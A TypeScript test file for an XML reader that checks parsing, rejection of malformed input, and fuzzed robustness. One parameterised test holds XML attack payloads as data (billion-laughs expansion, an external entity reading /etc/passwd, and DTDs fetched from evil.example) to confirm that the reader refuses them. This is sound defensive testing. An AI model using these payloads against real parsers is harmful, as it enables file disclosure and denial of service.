import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { NotXml, readXml } from './xml-reader.ts'

describe('an XML file', () => {
  it('is read with names without prefixes, and all text below each element', () => {
    const read = readXml(
      '\ufeff<?xml version="1.0" encoding="UTF-8"?>\r\n<!-- a --><x:a xmlns:x="urn:x" x:b="1 &amp; &#x32;" c=\'"\'>' +
        'one <d/>t<x:e>w</x:e>o\r\n<![CDATA[<&amp;>]]>&lt;&#128512;</x:a>\n',
    )
    expect(read).toMatchObject({ name: 'a', attributes: { b: '1 & 2', c: '"' }, text: 'one two\n<&amp;><😀' })
    expect(read.children.map(({ name, text }) => [name, text])).toEqual([
      ['d', ''],
      ['e', 'w'],
    ])
  })

  const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')
  it.each<[string, string]>([
    ['a billion laughs', `<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]><x>&l9;</x>`],
    ['an entity that is another file', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'],
    ['an entity of parameters', '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><x/>'],
    ['a document type in another file', '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>'],
    ['a document type without anything', '<!DOCTYPE x><x/>'],
    ['a document type inside', '<x><!DOCTYPE y></x>'],
  ])('with %s is refused before anything of it is read', (_, text) => {
    expect(() => readXml(text)).toThrow(NotXml)
    expect(() => readXml(text)).toThrow(/document type|doctype/i)
  })

  it.each([
    '',
    ' ',
    'a,b\r\n1,2',
    '<x',
    '<x>',
    '<x></y>',
    '</x>',
    '<x/><y/>',
    '<x/>words',
    'words<x/>',
    '<x a="1" a="2"/>',
    '<x a=1/>',
    '<x a="<"/>',
    '<x>&nbsp;</x>',
    '<x>&</x>',
    '<x>&#0;</x>',
    '<x>&#x110000;</x>',
    '<x>\u0000</x>',
    '<x>]]></x>',
    '<x:y/><!-- -- -->',
    '<![CDATA[x]]>',
    '<!doctype x><x/>',
    `${'<x>'.repeat(41)}${'</x>'.repeat(41)}`,
  ])('that is none is refused: %j', (text) => {
    expect(() => readXml(text)).toThrow(NotXml)
  })

  it('of any characters is read or refused, and nothing else', () => {
    const piece = fc.constantFrom(
      '<',
      '>',
      '/',
      '&',
      ';',
      '"',
      "'",
      '=',
      'x',
      '<x>',
      '</x>',
      '<!',
      '[',
      ']]>',
      '<?',
      '?>',
      '--',
      '&#',
      '\u0001',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        try {
          readXml(pieces.join(''))
        } catch (error) {
          expect(error).toBeInstanceOf(NotXml)
        }
      }),
      { numRuns: 1_000 },
    )
  })
})
